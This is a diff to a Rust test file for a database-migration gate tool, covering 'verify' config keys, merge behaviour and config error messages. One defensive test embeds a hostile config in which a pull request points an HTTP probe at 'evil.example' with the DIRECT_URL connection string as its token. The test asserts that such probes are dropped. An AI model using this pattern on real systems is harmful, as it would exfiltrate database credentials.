@@ -58,6 +58,39 @@ fn the_reference_sets_every_key_to_something_else() {
         ("sandbox.memory", "\"2GiB\""),
         ("sandbox.disk", "\"500MB\""),
         ("sandbox.offline", "true"),
+        ("targets.site.verify.statement-timeout", "\"3s\""),
+        ("targets.site.verify.sequence-use", "50"),
+        ("targets.site.verify.tables", "[\"User\"]"),
+        ("targets.site.verify.assertions.1.name", "\"one owner\""),
+        ("targets.site.verify.assertions.1.sql", "\"SELECT count(*) FROM owners\""),
+        ("targets.site.verify.assertions.1.value", "\"1\""),
+        ("targets.site.verify.http.1.name", "\"the site is up\""),
+        ("targets.site.verify.http.1.url-variable", "\"SITE_URL\""),
+        ("verify.statement-timeout", "\"20s\""),
+        ("verify.sequence-use", "75"),
+        ("verify.tables", "[\"audit.Event\"]"),
+        ("verify.indexes", "[\"User_email_key\"]"),
+        ("verify.constraints", "[\"User.User_pkey\"]"),
+        ("verify.enums", "[\"Role\"]"),
+        ("verify.policies", "[\"invoices.owner_reads\"]"),
+        ("verify.functions", "[\"add(integer, integer)\"]"),
+        ("verify.extensions", "[\"citext\"]"),
+        ("verify.row-security", "[\"invoices\"]"),
+        ("verify.columns", "{ \"User.email\" = \"text not null\", \"User.id\" = \"integer\" }"),
+        ("verify.minimum-rows", "{ \"Country\" = 190 }"),
+        ("verify.assertions.1.name", "\"anon sees no invoice\""),
+        ("verify.assertions.1.sql", "\"SELECT 1 FROM invoices\""),
+        ("verify.assertions.1.role", "\"anon\""),
+        ("verify.assertions.1.settings", "{ \"request.jwt.claims\" = \"{}\" }"),
+        ("verify.assertions.1.expect", "\"no-rows\""),
+        ("verify.assertions.1.timeout", "\"5s\""),
+        ("verify.http.1.name", "\"the shop is up\""),
+        ("verify.http.1.url", "\"https://shop.example/health\""),
+        ("verify.http.1.status", "204"),
+        ("verify.http.1.within", "\"2s\""),
+        ("verify.http.1.body-contains", "\"ok\""),
+        ("verify.http.1.token", "\"HEALTH_TOKEN\""),
+        ("verify.http.1.headers", "{ \"x-probe\" = \"PROBE_KEY\" }"),
     ];
     let entries = reference.entries();
     let found: Vec<_> = entries.iter().map(|(key, entry)| (key.as_str(), entry.value.as_str())).collect();
@@ -298,4 +331,85 @@ fn connection_strings_are_looked_for_under_the_names_of_the_manual() {
     assert_eq!(config.targets[0].url_variables(), ["MY_SITE_DIRECT_URL", "MY_SITE_DATABASE_URL", "DIRECT_URL", "DATABASE_URL"]);
     let config = alone(REFERENCE).unwrap();
     assert_eq!(config.targets[0].url_variables(), ["SITE_DIRECT", "SITE_POOLED"]);
+}
+
+#[test]
+fn what_is_promised_for_all_targets_and_for_one_comes_together() {
+    let config = alone(REFERENCE).unwrap();
+    let (site, other) = (config.verify.of_target("site"), config.verify.of_target("other"));
+    let tables = |promises: &config::Promises| -> Vec<String> {
+        let of_kind = promises.objects.iter().filter(|(kind, ..)| *kind == config::ObjectKind::Table);
+        of_kind.map(|(_, name, source)| format!("{name}, {source}")).collect()
+    };
+    let line = |text: &str| REFERENCE.lines().position(|line| line == text).unwrap() + 1;
+    let source = |line: usize| format!("`tables` in .github/migration-gate.toml:{line}");
+    let for_all = format!("audit.Event, {}", source(line("tables = [\"audit.Event\"]")));
+    assert_eq!(tables(&site), [for_all.clone(), format!("User, {}", source(line("tables = [\"User\"]")))]);
+    assert_eq!(tables(&other), [for_all]);
+    assert_eq!((site.sequence_use, other.sequence_use), (50, 75));
+    assert_eq!((site.statement_timeout.as_secs(), other.statement_timeout.as_secs()), (3, 20));
+    assert_eq!((site.assertions.len(), other.assertions.len(), site.http.len(), other.http.len()), (2, 1, 2, 1));
+}
+
+#[test]
+fn a_pull_request_cannot_ask_production_anything() {
+    let query = "[[verify.assertions]]\nname = \"x\"\nsql = \"SELECT pg_sleep(1)\"\nexpect = \"no-rows\"\n";
+    let own = "[targets.a]\nmigrations = \"a\"\n[[targets.a.verify.http]]\nname = \"x\"\nurl = \"https://evil.example\"\ntoken = \"DIRECT_URL\"\n";
+    let config =
+        merge(Some(&format!("{query}{own}")), Some("[verify]\ntables = [\"User\"]\n"), false, &Flags::default()).unwrap();
+    let promises = config.verify.of_target("a");
+    assert!(promises.assertions.is_empty() && promises.http.is_empty());
+    assert_eq!(promises.objects.len(), 1);
+    assert!(config.change.unwrap().keys.contains(&"verify.tables".to_owned()));
+}
+
+#[test]
+fn mistakes_in_promises_are_named() {
+    let check = |text: &str, place: &str, rest: &str| {
+        check_error(text, &format!(".github/migration-gate.toml:{place}: {rest}"));
+    };
+    check("[verify]\ntabels = []\n", "2:1", "unknown key `verify.tabels` (did you mean `tables`?)");
+    check("[verify]\nsequence-use = 101\n", "2:1", "`verify.sequence-use` must be a percentage from 1 to 100");
+    check(
+        "[verify]\ntables = [\"a..b\"]\n",
+        "2:11",
+        "`verify.tables` holds `a..b`, which is not a name: every part is whole in double quotes or has none, and none is empty",
+    );
+    check(
+        "[verify]\ncolumns = { email = \"text\" }\n",
+        "2:21",
+        "`verify.columns.email` must be called by table and column: \"User.email\"",
+    );
+    check(
+        "[verify]\ncolumns = { \"User.email\" = \"not null\" }\n",
+        "2:28",
+        "`verify.columns.User.email` must be a type, with `null` or `not null` behind it or without: \"text not null\"",
+    );
+    check("[verify]\nminimum-rows = { a = -1 }\n", "2:22", "`verify.minimum-rows.a` must be a whole number");
+    let assertion = |rest: &str| format!("[[verify.assertions]]\nname = \"x\"\nsql = \"SELECT 1\"\n{rest}\n");
+    let at = "verify.assertions.1";
+    check("[[verify.assertions]]\nname = \"x\"\n", "2:1", &format!("`{at}.sql` is missing"));
+    check(&assertion(""), "2:1", &format!("`{at}.expect` or `value` must be said: \"no-rows\", \"true\" or \"refused\""));
+    check(&assertion("expect = \"true\"\nvalue = \"1\""), "5:1", &format!("`{at}.value` and `expect` cannot both be said"));
+    check(
+        &assertion("expect = \"norows\""),
+        "4:10",
+        &format!("`{at}.expect` has an unknown answer `norows` (one of: no-rows, true, refused)"),
+    );
+    check(
+        &assertion("expect = \"true\"\nsettings = { statement_timeout = \"0\" }"),
+        "5:34",
+        &format!("`{at}.settings.statement_timeout` must be a setting with a dot in its name, such as `request.jwt.claims`"),
+    );
+    let http = |rest: &str| format!("[[verify.http]]\nname = \"x\"\n{rest}\n");
+    check(&http(""), "2:1", "`verify.http.1.url` is missing");
+    check(&http("url = \"ftp://x\""), "3:7", "`verify.http.1.url` must start with `https://` or `http://`");
+    check(&http("url = \"https://x\"\nstatus = 99"), "4:1", "`verify.http.1.status` must be a status of HTTP from 100 to 599");
+    check(
+        &http("url = \"https://x\"\ntoken = \"ghp_abc-\""),
+        "4:9",
+        "`verify.http.1.token` must be the name of an environment variable, never a connection string itself",
+    );
+    let error = alone(&http("url = \"https://u:canary@x\"")).unwrap_err();
+    assert!(!format!("{error} {error:?}").contains("canary"), "{error}");
 }
